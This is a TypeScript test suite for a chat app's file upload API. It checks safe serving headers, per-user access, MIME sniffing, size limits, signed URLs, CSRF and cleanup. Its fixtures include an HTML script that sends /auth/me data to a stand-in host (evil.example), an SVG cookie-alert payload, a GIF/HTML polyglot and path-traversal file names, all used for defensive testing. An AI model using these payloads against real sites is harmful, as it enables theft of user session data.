import { Agent, request as httpRequest } from "node:http";
import { existsSync, readdirSync, statSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  connectSocket,
  dialects,
  echoApp,
  eventually,
  EventLog,
  request,
  samplePdf,
  type StartOptions,
  startTestServer,
  type TestClient,
  type TestServer,
} from "@parlor/test-support";
import { PNG } from "./helpers/sample-files.js";
import { multipart, send } from "./helpers/keep-alive-request.js";

const HTML_WITH_SCRIPT = `<!doctype html><html><body><script>fetch('/auth/me').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></body></html>`;
const SVG_WITH_SCRIPT = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`;
const GIF_POLYGLOT = Buffer.concat([Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00;", "latin1"), Buffer.from(`<html><script>alert(1)</script></html>`)]);

const form = (bytes: Buffer | string, name: string, type = "application/octet-stream") => {
  const data = new FormData();
  data.append("file", new Blob([typeof bytes === "string" ? bytes : new Uint8Array(bytes)], { type }), name);
  return data;
};

/** Every stored object under the data dir's files/ (temporary `.part` files included). */
function storedObjects(dataDir: string): string[] {
  const root = join(dataDir, "files");
  if (!existsSync(root)) return [];
  const found: string[] = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir)) {
      const path = join(dir, entry);
      if (statSync(path).isDirectory()) walk(path);
      else found.push(path);
    }
  };
  walk(root);
  return found;
}

describe.each(dialects)("files on $name", (dialect) => {
  let t: TestServer;

  const start = async (options: Omit<StartOptions, "dialect"> = {}) => {
    t = await startTestServer({ dialect, ...options });
    return t;
  };
  const upload = (client: TestClient, bytes: Buffer | string, name: string, type?: string, query = "") =>
    client.post(`/api/files${query}`, { form: form(bytes, name, type) });
  const fileRows = () => t.server.db.selectFrom("files").selectAll().execute();
  /** A request with only the cookie, as an `<img src>` sends it: no Origin, no CSRF header. */
  const imgGet = (client: TestClient, url: string, headers: Record<string, string> = {}) =>
    fetch(t.origin + url, { headers: { cookie: `${client.cookieName}=${client.sessionCookie}`, ...headers } });

  it("uploads an image and serves it back to its owner, inline with the safe headers", async () => {
    await start();
    const alice = await t.loggedIn();
    const uploaded = await upload(alice, PNG, "photo.png", "image/png");
    expect(uploaded.status).toBe(201);
    expect(uploaded.body).toEqual({ id: expect.any(String), name: "photo.png", mime: "image/png", size: PNG.length, url: `/api/files/${uploaded.body.id}` });

    const response = await imgGet(alice, uploaded.body.url);
    expect(response.status).toBe(200);
    expect(Buffer.from(await response.arrayBuffer())).toEqual(PNG);
    expect(response.headers.get("content-type")).toBe("image/png");
    expect(response.headers.get("content-disposition")).toBe('inline; filename="photo.png"');
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
    expect(response.headers.get("cross-origin-resource-policy")).toBe("same-origin");
    expect(response.headers.get("cache-control")).toMatch(/^private/);
  });

  it("answers 404 for another user's file and 401 without a session", async () => {
    await start();
    const alice = await t.loggedIn("alice");
    const bob = await t.loggedIn("bob");
    const { body } = await upload(alice, PNG, "mine.png");
    const stolen = await imgGet(bob, body.url);
    expect(stolen.status).toBe(404);
    expect(await stolen.json()).toEqual({ error: { code: "not_found", message: "No such file" } });
    expect((await fetch(t.origin + body.url)).status).toBe(401);
  });

  it.each([
    ["an HTML page with a script", HTML_WITH_SCRIPT, "page.html", "text/html", "text/html"],
    ["an SVG with a script", SVG_WITH_SCRIPT, "image.svg", "image/svg+xml", "image/svg+xml"],
    ["a GIF/HTML polyglot", GIF_POLYGLOT, "cat.gif", "image/gif", "application/octet-stream"],
    ["HTML declared as a PNG", HTML_WITH_SCRIPT, "innocent.png", "image/png", "text/html"],
  ])("serves %s as an octet-stream attachment in a sandbox", async (_label, bytes, name, declared, sniffed) => {
    await start();
    const alice = await t.loggedIn();
    const uploaded = await upload(alice, Buffer.from(bytes), name, declared);
    expect(uploaded.body.mime).toBe(sniffed);
    const response = await imgGet(alice, uploaded.body.url);
    expect(response.headers.get("content-type")).toBe("application/octet-stream");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename=/);
    expect(response.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("lets the app's own pages frame a PDF, and no page frame anything else", async () => {
    await start();
    const alice = await t.loggedIn();
    const pdf = await upload(alice, samplePdf(), "report.pdf", "application/pdf");
    expect(pdf.body.mime).toBe("application/pdf");
    const framed = await imgGet(alice, pdf.body.url);
    expect(framed.headers.get("content-disposition")).toBe('inline; filename="report.pdf"');
    expect(framed.headers.get("x-frame-options")).toBe("SAMEORIGIN");
    expect(framed.headers.get("content-security-policy")).toBe("default-src 'none'; frame-ancestors 'self'; sandbox");

    const html = await upload(alice, HTML_WITH_SCRIPT, "page.html", "text/html");
    const refused = await imgGet(alice, html.body.url);
    expect(refused.headers.get("x-frame-options")).toBe("DENY");
    expect(refused.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
  });

  it("shows plain text inline as UTF-8 text", async () => {
    await start();
    const alice = await t.loggedIn();
    const uploaded = await upload(alice, "héllo, plain words\n", "notes.txt", "application/x-evil");
    expect(uploaded.body.mime).toBe("text/plain");
    const response = await imgGet(alice, uploaded.body.url);
    expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(await response.text()).toBe("héllo, plain words\n");
  });

  it("cuts off an oversized upload with 413 and leaves no file and no row", async () => {
    await start({ server: { files: { maxUploadBytes: 100 * 1024 } } });
    const alice = await t.loggedIn();
    const response = await upload(alice, Buffer.alloc(300 * 1024, 7), "big.bin");
    expect(response.status).toBe(413);
    expect(response.body.error.code).toBe("payload_too_large");
    expect(await fileRows()).toEqual([]);
    expect(storedObjects(t.dataDir)).toEqual([]);
    // The limit is inclusive: exactly the maximum is accepted.
    expect((await upload(alice, Buffer.alloc(100 * 1024, 7), "exact.bin")).status).toBe(201);
  });

  it("has removed the temporary file when it answers 413, even when the first bytes are already over the limit", async () => {
    // The sniffed head is handed to storage as one chunk: over a small limit, the upload fails
    // before anything is written, while the temporary file was still being opened.
    await start({ server: { files: { maxUploadBytes: 1024 } } });
    const alice = await t.loggedIn();
    for (let i = 0; i < 20; i++) {
      expect((await upload(alice, Buffer.alloc(64 * 1024, 7), `big-${i}.bin`)).status).toBe(413);
      expect(storedObjects(t.dataDir)).toEqual([]);
    }
    expect(await fileRows()).toEqual([]);
  });

  it("reads the rest of a refused upload, so the next request on the keep-alive connection answers", async () => {
    await start({ server: { files: { accept: ["image/*"] } } });
    const alice = await t.loggedIn();
    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
    try {
      const headers = {
        cookie: `${alice.cookieName}=${alice.sessionCookie}`,
        origin: t.origin,
        "sec-fetch-site": "same-origin",
        "x-csrf-token": alice.csrfToken!,
      };
      // Refused on its sniffed type after the first 64 KiB; 1 MiB more is still on the way.
      const { body, contentType } = multipart(Buffer.alloc(1024 * 1024, 7), "data.bin");
      const refused = await send(agent, `${t.origin}/api/files`, {
        method: "POST",
        headers: { ...headers, "content-type": contentType, "content-length": String(body.length) },
        body,
      });
      expect(refused.status).toBe(415);
      const me = await send(agent, `${t.origin}/auth/me`, { method: "GET", headers });
      expect(me.status).toBe(200);
      expect(me.reusedSocket).toBe(true);
    } finally {
      agent.destroy();
    }
  });

  it("leaves nothing behind when the client disconnects mid-upload", async () => {
    await start();
    const alice = await t.loggedIn();
    const boundary = "----parlor-test-boundary";
    await new Promise<void>((resolve) => {
      const req = httpRequest(`${t.origin}/api/files`, {
        method: "POST",
        headers: {
          "content-type": `multipart/form-data; boundary=${boundary}`,
          "content-length": String(5 * 1024 * 1024),
          cookie: `${alice.cookieName}=${alice.sessionCookie}`,
          origin: t.origin,
          "x-csrf-token": alice.csrfToken!,
        },
      });
      req.on("error", () => resolve());
      req.write(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="half.bin"\r\nContent-Type: application/octet-stream\r\n\r\n`);
      req.write(Buffer.alloc(512 * 1024, 1));
      // Cut once the server is writing the upload (its temporary `.part` file exists).
      const cut = () => (req.destroy(), resolve());
      eventually("the upload being written", () => storedObjects(t.dataDir).length > 0).then(cut, cut);
    });
    await eventually("the partial upload removed", () => storedObjects(t.dataDir).length === 0);
    expect(await fileRows()).toEqual([]);
    expect(storedObjects(t.dataDir)).toEqual([]);
  });

  it("never uses the file name for storage, and sanitizes it for display", async () => {
    await start();
    const alice = await t.loggedIn();
    for (const [name, expected] of [
      ["../../../etc/passwd", "passwd"],
      ["..\\..\\windows\\evil.txt", "evil.txt"],
      ["\u202Egnp.exe", "gnp.exe"],
      [".hidden", "hidden"],
    ]) {
      const uploaded = await upload(alice, "text", name!);
      expect(uploaded.body.name, name).toBe(expected);
    }
    const rows = await fileRows();
    for (const row of rows) expect(row.storage_key).toMatch(/^[a-f0-9]{32}$/);
    expect(storedObjects(t.dataDir).every((path) => path.startsWith(join(t.dataDir, "files")))).toBe(true);

    const unicode = await upload(alice, "text", "отчёт 2026.txt");
    const response = await imgGet(alice, unicode.body.url);
    // RFC 6266: an ASCII fallback, then the exact name in filename*.
    expect(response.headers.get("content-disposition")).toBe(`inline; filename="????? 2026.txt"; filename*=UTF-8''%D0%BE%D1%82%D1%87%D1%91%D1%82%202026.txt`);
  });

  it("supports Range, ETag and HEAD", async () => {
    await start();
    const alice = await t.loggedIn();
    const bytes = Buffer.from("0123456789abcdefghij");
    const { body } = await upload(alice, bytes, "digits.txt");

    const first = await imgGet(alice, body.url, { range: "bytes=0-3" });
    expect(first.status).toBe(206);
    expect(first.headers.get("content-range")).toBe(`bytes 0-3/${bytes.length}`);
    expect(await first.text()).toBe("0123");
    const suffix = await imgGet(alice, body.url, { range: "bytes=-4" });
    expect(await suffix.text()).toBe("ghij");
    const open = await imgGet(alice, body.url, { range: "bytes=10-" });
    expect(await open.text()).toBe("abcdefghij");
    const unsatisfiable = await imgGet(alice, body.url, { range: "bytes=500-" });
    expect(unsatisfiable.status).toBe(416);
    expect(unsatisfiable.headers.get("content-range")).toBe(`bytes */${bytes.length}`);

    const full = await imgGet(alice, body.url);
    expect(full.headers.get("accept-ranges")).toBe("bytes");
    const etag = full.headers.get("etag")!;
    expect((await imgGet(alice, body.url, { "if-none-match": etag })).status).toBe(304);

    const head = await fetch(t.origin + body.url, { method: "HEAD", headers: { cookie: `${alice.cookieName}=${alice.sessionCookie}` } });
    expect(head.status).toBe(200);
    expect(head.headers.get("content-length")).toBe(String(bytes.length));
    expect(await head.text()).toBe("");
  });

  it("serves signed URLs without a cookie, for that file only, until they expire", async () => {
    await start();
    const alice = await t.loggedIn();
    const one = await upload(alice, PNG, "one.png");
    const two = await upload(alice, PNG, "two.png");
    const signed = await alice.get(`/api/files/${one.body.id}/signed-url`);
    expect(signed.status).toBe(200);
    const url: string = signed.body.url;

    const anonymous = await fetch(t.origin + url);
    expect(anonymous.status).toBe(200);
    expect(Buffer.from(await anonymous.arrayBuffer())).toEqual(PNG);

    const otherFile = await fetch(t.origin + url.replace(one.body.id, two.body.id));
    expect(otherFile.status).toBe(403);
    const altered = await fetch(t.origin + url.replace(/sig=(.)/, (_m, c: string) => `sig=${c === "A" ? "B" : "A"}`));
    expect(altered.status).toBe(403);
    const laterExpiry = await fetch(t.origin + url.replace(/exp=(\d+)/, (_m, exp: string) => `exp=${Number(exp) + 3600}`));
    expect(laterExpiry.status).toBe(403);

    t.clock.advance((5 * 60 + 1) * 1000);
    const expired = await fetch(t.origin + url);
    expect(expired.status).toBe(403);
    expect((await expired.json()).error.code).toBe("forbidden");
    expect((await bobCannotSign()).status).toBe(404);

    async function bobCannotSign() {
      const bob = await t.loggedIn("bob");
      return bob.get(`/api/files/${one.body.id}/signed-url`);
    }
  });

  it("refuses types outside the accepted list with 415 and stores nothing", async () => {
    await start({ server: { files: { accept: ["image/*", "application/pdf"] } } });
    const alice = await t.loggedIn();
    const refused = await upload(alice, "just text", "a.txt", "image/png");
    expect(refused.status).toBe(415);
    expect(refused.body.error.code).toBe("unsupported_media_type");
    expect(await fileRows()).toEqual([]);
    expect(storedObjects(t.dataDir)).toEqual([]);
    expect((await upload(alice, PNG, "ok.png")).status).toBe(201);
  });

  it("refuses a cross-site form upload (CSRF) and a request without a file field", async () => {
    await start();
    const alice = await t.loggedIn();
    const crossSite = await alice.post("/api/files", {
      form: form(PNG, "x.png"),
      headers: { "sec-fetch-site": "cross-site", origin: "https://evil.example", "x-csrf-token": undefined },
    });
    expect(crossSite.status).toBe(403);
    expect(crossSite.body.error.code).toBe("csrf");
    const wrongField = new FormData();
    wrongField.append("other", new Blob([PNG]), "x.png");
    expect((await alice.post("/api/files", { form: wrongField })).status).toBe(400);
    expect((await alice.post("/api/files", { json: { file: "x" } })).status).toBe(415);
    expect(await fileRows()).toEqual([]);
  });

  describe("in chats", () => {
    it("attaches uploads to a message; the app reads them and attaches a file to its reply", async () => {
      const seen: Array<{ name: string; mime: string; size: number; text: string }> = [];
      await start({
        app: echoApp({
          async onMessage(message, chat) {
            for (const file of message.files) seen.push({ name: file.name, mime: file.mime, size: file.size, text: (await file.read()).toString() });
            const reply = chat.reply();
            await reply.stream("here is a picture");
            await reply.attach({ name: "made.png", data: PNG });
            await reply.end();
          },
        }),
      });
      const alice = await t.loggedIn();
      const socket = await connectSocket(t, alice);
      const log = new EventLog(socket);
      const { body: file } = await upload(alice, "file contents", "notes.txt");

      const ack = await request(socket, "message:send", { content: "see attached", fileIds: [file.id] });
      expect(ack.ok).toBe(true);
      // thread:idle, not message:end: the thread takes messages again only once the run is over.
      await log.waitFor((e) => e.event === "thread:idle");
      expect(seen).toEqual([{ name: "notes.txt", mime: "text/plain", size: 13, text: "file contents" }]);
      expect(log.of("message:new")[0].files).toEqual([file]);
      const attached = log.of("message:file")[0].file;
      expect(attached).toMatchObject({ name: "made.png", mime: "image/png", size: PNG.length });
      expect(Buffer.from(await (await imgGet(alice, attached.url)).arrayBuffer())).toEqual(PNG);

      const thread = await alice.get(`/api/threads/${ack.threadId}`);
      expect(thread.body.messages.map((m: { files: Array<{ id: string }> }) => m.files.map((f) => f.id))).toEqual([[file.id], [attached.id]]);
      // An attached file cannot be attached again.
      const again = await request(socket, "message:send", { threadId: ack.threadId, content: "again", fileIds: [file.id] });
      expect(again.error.code).toBe("not_found");
    });

    it("refuses another user's file id in a message and stores nothing", async () => {
      await start();
      const alice = await t.loggedIn("alice");
      const bob = await t.loggedIn("bob");
      const { body: bobsFile } = await upload(bob, PNG, "bob.png");
      const socket = await connectSocket(t, alice);
      const ack = await request(socket, "message:send", { content: "mine?", fileIds: [bobsFile.id] });
      expect(ack.error.code).toBe("not_found");
      expect(await t.server.db.selectFrom("messages").selectAll().execute()).toEqual([]);
      expect((await fileRows())[0]!.message_id).toBeNull();
    });

    it("deletes a thread's files, rows and bytes, with the thread", async () => {
      await start();
      const alice = await t.loggedIn();
      const socket = await connectSocket(t, alice);
      const log = new EventLog(socket);
      const { body: file } = await upload(alice, PNG, "a.png");
      const { threadId } = await request(socket, "message:send", { content: "pic", fileIds: [file.id] });
      await log.waitFor((e) => e.event === "message:end");
      expect(storedObjects(t.dataDir)).toHaveLength(1);

      expect((await alice.request("DELETE", `/api/threads/${threadId}`)).status).toBe(204);
      expect(await fileRows()).toEqual([]);
      expect(storedObjects(t.dataDir)).toEqual([]);
      expect((await imgGet(alice, file.url)).status).toBe(404);
    });
  });

  it("sweeps uploads never attached to a message after the orphan lifetime", async () => {
    await start({ server: { files: { orphanTtl: 3600 } } });
    const alice = await t.loggedIn();
    const socket = await connectSocket(t, alice);
    const log = new EventLog(socket);
    const { body: orphan } = await upload(alice, PNG, "orphan.png");
    const { body: kept } = await upload(alice, PNG, "kept.png");
    await request(socket, "message:send", { content: "keep", fileIds: [kept.id] });
    await log.waitFor((e) => e.event === "message:end");

    expect(await t.server.files.sweepOrphans()).toBe(0); // too young
    t.clock.advance(3_601_000);
    expect(await t.server.files.sweepOrphans()).toBe(1);
    expect((await fileRows()).map((row) => row.id)).toEqual([kept.id]);
    expect(storedObjects(t.dataDir)).toHaveLength(1);
    expect((await imgGet(alice, orphan.url)).status).toBe(404);
  });
});
